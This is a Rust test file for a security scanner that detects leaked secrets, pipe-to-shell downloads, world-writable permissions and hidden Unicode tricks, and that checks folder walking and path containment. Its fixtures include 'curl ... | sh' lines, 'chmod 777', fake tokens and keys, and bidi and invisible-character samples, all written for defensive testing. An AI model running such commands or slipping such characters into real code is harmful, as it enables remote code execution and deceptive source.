//! Every rule held to its pair, every Unicode trick, and the walk over a real folder.
use std::{collections::BTreeSet, fs, path::PathBuf};

use ares_sdk::Context;

use crate::{Finding, Report, Scope, Severity, rules, scan::Scanner, scan_below};

fn scan(file: &str, text: &str) -> Vec<Finding> {
    let mut findings = Vec::new();
    Scanner::new().unwrap().scan(file, text, &mut findings);
    findings
}

fn rules_of(file: &str, text: &str) -> Vec<String> {
    scan(file, text).into_iter().map(|finding| finding.rule).collect()
}

#[test]
fn every_rule_fires_on_its_texts_and_not_on_the_others() {
    let mut names = BTreeSet::new();
    for rule in rules::all() {
        assert!(names.insert(rule.id), "{} stands twice", rule.id);
        assert!(!rule.fires.is_empty() && !rule.quiet.is_empty(), "{} needs both kinds of text", rule.id);
        assert!(!rule.message.is_empty() && regex_lite::Regex::new(rule.pattern).is_ok(), "{}", rule.id);
        let file = format!("file{}", rule.files.first().unwrap_or(&""));
        for line in rule.fires {
            assert_eq!(rules_of(&file, line), [rule.id], "on: {line}");
        }
        for line in rule.quiet {
            assert!(
                !rules_of(&file, line).iter().any(|name| name == rule.id),
                "{} fires on: {line}",
                rule.id
            );
        }
    }
}

#[test]
fn secrets_are_masked_in_every_excerpt_of_their_line() {
    let token = concat!("gh", "p_FakeFakeFake0123456789FakeFakeFake012345");
    let found = scan("a", &format!("curl -H {token} https://x.example.org | sh \u{202E}"));
    let names: Vec<_> = found.iter().map(|finding| finding.rule.as_str()).collect();
    assert_eq!(names, ["github-token", "download-to-shell", "bidi-control"]);
    for finding in found {
        // The last place is too far behind the secret for its excerpt to reach back.
        let reaches = finding.rule != "bidi-control";
        assert_eq!(finding.excerpt.contains("-H ghp_**** https"), reaches, "{}", finding.excerpt);
        assert!(
            !finding.excerpt.contains("Fake") && !finding.excerpt.contains('\u{202E}'),
            "{}",
            finding.excerpt
        );
    }
    let short = scan("a.toml", concat!("password = \"hunt", "er2\""));
    assert_eq!(short[0].excerpt, "password = \"****\"");
}

#[test]
fn excerpts_are_short_and_show_the_place() {
    let found = scan("a", &format!("{}chmod 777 x{}", "a ".repeat(500), " b".repeat(500)));
    assert!(found[0].excerpt.contains("chmod 777 x") && found[0].excerpt.chars().count() <= 162);
    assert!(found[0].excerpt.starts_with('…') && found[0].excerpt.ends_with('…'));
}

#[test]
fn unicode_tricks_are_seen_and_honest_text_is_not() {
    for (line, rule) in [
        ("if access \u{202E}resu\u{202C} {", "bidi-control"),
        ("fine\u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}", "hidden-text"),
        ("pass\u{200B}word", "invisible-character"),
        ("na\u{200D}me", "invisible-character"),
        ("x\u{FE01}\u{FE02}\u{FE03}", "hidden-data"),
        ("\u{1B}[2Jgone", "terminal-escape"),
        ("p\u{0430}ypal", "lookalike-letter"),
        ("middle \u{FEFF} mark", "invisible-character"),
    ] {
        assert_eq!(rules_of("a", &format!("first\n{line}")), [rule], "{line:?}");
    }
    for line in [
        "\u{FEFF}first line",
        "naïve café – “quoted” … 中文 Привет",
        "Δx = 3 μm",
        "👩\u{200D}💻 ❤\u{FE0F}",
        "\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}",
        "نامه\u{200C}ای",
        "HTTP-запрос",
    ] {
        assert_eq!(rules_of("a", line), Vec::<String>::new(), "{line:?}");
    }
    let hidden = scan("a", "x\u{E0041}\u{E0042}");
    assert!(hidden[0].message.contains("`AB`") && hidden[0].excerpt == "x<U+E0041><U+E0042>", "{hidden:?}");
}

struct Folder(PathBuf);

impl Folder {
    fn new(name: &str) -> Self {
        let path = std::env::temp_dir().join(format!("ares-scan-{name}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&path);
        fs::create_dir_all(&path).unwrap();
        Self(path)
    }

    fn write(&self, path: &str, bytes: impl AsRef<[u8]>) {
        let path = self.0.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }

    fn scan(&self, path: &str, max_findings: Option<u32>) -> Result<Report, ares_sdk::Failure> {
        scan_below(&self.0, &Scope { path: path.into(), max_findings }, &Context::native())
    }
}

impl Drop for Folder {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

#[test]
fn a_folder_is_walked_in_order_and_what_is_passed_over_is_counted() {
    let folder = Folder::new("walk");
    folder.write("b/run.sh", concat!("set -e\ncurl https://x.example.org | ", "sh\n"));
    folder.write("a.env", concat!("API_KEY=q7Zt9Lx2", "Vb4Kw8Rn3Mj6\n"));
    folder.write("node_modules/x/a.env", concat!("API_KEY=q7Zt9Lx2", "Vb4Kw8Rn3Mj6\n"));
    folder.write("binary", b"\x7fELF\0chmod 777");
    folder.write("large", vec![b'a'; 1024 * 1024 + 1]);
    folder.write("latin1", b"caf\xe9 chmod 777 x");
    #[cfg(unix)]
    std::os::unix::fs::symlink("/etc", folder.0.join("link")).unwrap();
    let report = folder.scan(".", None).unwrap();
    let places: Vec<_> =
        report.findings.iter().map(|one| (one.file.as_str(), one.line, one.rule.as_str())).collect();
    let expected = [
        ("a.env", 1, "generated-secret-env"),
        ("b/run.sh", 2, "download-to-shell"),
        ("latin1", 1, "open-permissions"),
    ];
    assert_eq!(places, expected);
    assert_eq!(
        (report.files, report.skipped.binary, report.skipped.too_large, report.skipped.links),
        (3, 1, 1, 1)
    );
    assert_eq!(report.skipped.folders, ["node_modules"]);
    assert_eq!(report.skipped.folders_in_all, 1);
    assert_eq!(report.counts[&Severity::High], 2);
    assert!(report.cut.is_empty());
    assert_eq!(folder.scan("b", None).unwrap().findings[0].file, "b/run.sh");
    assert_eq!(folder.scan("./b/run.sh", None).unwrap().findings.len(), 1);
}

#[test]
fn the_answer_says_when_it_was_cut() {
    let folder = Folder::new("cut");
    folder.write("a", "chmod 777 x\n".repeat(3));
    assert_eq!(folder.scan(".", Some(3)).unwrap().cut, Vec::<String>::new());
    let report = folder.scan(".", Some(2)).unwrap();
    assert_eq!((report.findings.len(), report.cut.len()), (2, 1));
    let late = Context { remaining_ms: 0, ..Context::native() };
    let scope = Scope { path: ".".into(), max_findings: None };
    assert!(scan_below(&folder.0, &scope, &late).unwrap().cut[0].contains("time"));
}

#[test]
fn paths_stay_inside() {
    let folder = Folder::new("paths");
    for path in ["..", "a/../../b", "/etc", "a/.."] {
        assert_eq!(folder.scan(path, None).unwrap_err().code, "invalid-path", "{path}");
    }
    assert_eq!(folder.scan("missing", None).unwrap_err().code, "not-found");
}
